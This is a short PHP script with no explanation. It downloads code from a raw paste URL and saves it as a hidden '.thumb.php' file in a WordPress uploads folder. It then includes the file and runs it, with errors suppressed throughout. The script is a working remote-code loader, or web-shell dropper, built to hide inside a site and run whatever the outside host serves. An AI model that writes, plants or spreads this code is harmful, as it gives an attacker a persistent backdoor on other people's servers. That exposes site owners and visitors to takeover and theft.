<?php
$src = 'https://raw.paste.example/u/jx7Kq/raw';
$dst = __DIR__ . '/wp-content/uploads/2024/01/.thumb.php';
$code = @file_get_contents($src);
if ($code) {
    @file_put_contents($dst, $code);
    include $dst;
}
